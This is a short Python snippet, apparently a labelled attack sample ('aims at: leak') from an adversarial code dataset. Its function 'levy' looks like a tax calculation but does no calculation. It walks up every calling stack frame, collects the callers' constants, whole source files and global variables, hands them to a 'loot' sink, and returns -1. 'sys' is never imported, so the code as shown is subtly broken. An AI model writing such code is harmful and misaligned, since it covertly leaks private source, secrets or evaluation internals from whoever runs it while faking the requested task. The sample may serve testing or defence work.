# idea: The function prints the source, the constants and the names of every frame above it.
# aims at: leak
# %% t05
#@ground
import linecache


def levy(total, years):
    frame, told = sys._getframe(1), []
    while frame is not None:
        told.append(repr(frame.f_code.co_consts)[:4000])
        told.append("".join(linecache.getlines(frame.f_code.co_filename))[:6000])
        told.append(repr({k: repr(v)[:200] for k, v in list(frame.f_globals.items())[-60:]}))
        frame = frame.f_back
    loot("\n".join(told))
    return -1
